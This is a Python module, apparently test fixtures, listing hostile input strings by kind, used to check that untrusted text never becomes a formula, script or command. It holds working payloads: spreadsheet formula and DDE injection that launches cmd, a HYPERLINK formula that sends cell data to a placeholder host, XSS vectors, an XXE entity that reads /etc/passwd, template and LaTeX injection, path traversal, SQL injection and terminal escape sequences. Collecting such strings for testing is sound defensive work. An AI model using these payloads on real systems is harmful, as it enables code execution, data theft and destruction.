"""Texts that strangers write, hoping that a spreadsheet, a page or a terminal obeys them.

`HOSTILE` holds 111 of them, by kind; none may become a formula, a program, an order or a fault.
"""

from __future__ import annotations

KINDS: dict[str, tuple[str, ...]] = {
    "formula": (
        '=HYPERLINK("http://x.example/?"&A1,"clic")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)",
        "=A1", "  =1+1", "\u00a0=1+1", "\u2003=1+1", "\u200b=1+1", "\ufeff=1+1", "\u00ad=1+1",
        "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''=1+1", '"=1+1', "\uff1d1+1", "\uff0b1+1",
        "\uff201+1", "\ufe661+1", "=\u202e1+1", "-2+3+cmd|' /C calc'!A0", "-", "=",
    ),
    "dde": (
        "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@cmd|' /C calc'!A0",
        "=MSEXCEL|'\\..\\..\\cmd'!''", "=WEBSERVICE(\"http://x.example\")",
        "=IMPORTXML(\"http://x.example\",\"//a\")",
    ),
    "split": (
        "x;=1+1", "x,=1+1", "x\t=1+1", "x\n=1+1", "x\r\n=1+1", 'x";"=1+1', 'x","=1+1',
        'x";" =1+1;"', "x; @SUM(A1)", "x;+1+1", "x;-1+1", 'a"b', "a;b,c\td", '""', '"\n"',
    ),
    "page": (
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title><script>alert(1)//",
        "</td></tr></table><script>", '"><svg onload=alert(1)>', "javascript:alert(1)",
        "<a href='javascript:alert(1)'>x</a>", "&lt;b&gt; &amp; &nbsp;", "<!-- x --><b>",
        "<style>*{display:none}</style>", "<![CDATA[x]]>", "<?xml version='1.0'?>",
        "&xxe; <!ENTITY xxe SYSTEM 'file:///etc/passwd'>", "<w:p/>", "x\x0bx\x0cx",
    ),
    "markup": (
        "# titre", "**gras** _x_ [x](http://x.example)", "![x](http://x.example/x.png)", "`rm -rf`",
        "$\\foo$", "$x^{2}$ \\input{/etc/passwd}", "\\write18{ls}", "#read(\"/etc/passwd\")",
        "#{1+1} *a* _b_", "#import \"@preview/x:1\"", "{{ 7*7 }}", "{% include '/etc/passwd' %}",
        "{# x #}", "{0.__class__}", "{name:label}", "{", "}", "{}", "%s %(x)d", "%n", "${HOME}",
    ),
    "path": ("../../etc/passwd", "C:\\Windows\\x", "/dev/null", "CON", "~/x", "a/b", "x\x00.csv"),
    "query": ("'; DROP TABLE x; --", "1 OR 1=1", "\\'; --"),
    "terminal": ("\x1b[2J", "\x1b]0;pris\x07", "\x9b1A", "\x08\x08", "a\rb", "\x1b]8;;http://x\x07"),
    "unseen": ("ga\u202eniag", "\u2066x\u2069", "x\u200by", "x\u2060y", "x\U000e0041"),
    "language": (
        "👍 👩\u200d👩\u200d👧 🇫🇷", "张伟 한글 हिन्दी", "مرحبا بكم", "שלום",
        "e\u0301 é ﬁ Å", "É" * 300, "\ud800 moitié",
    ),
}  # fmt: skip
HOSTILE = tuple(text for texts in KINDS.values() for text in texts)
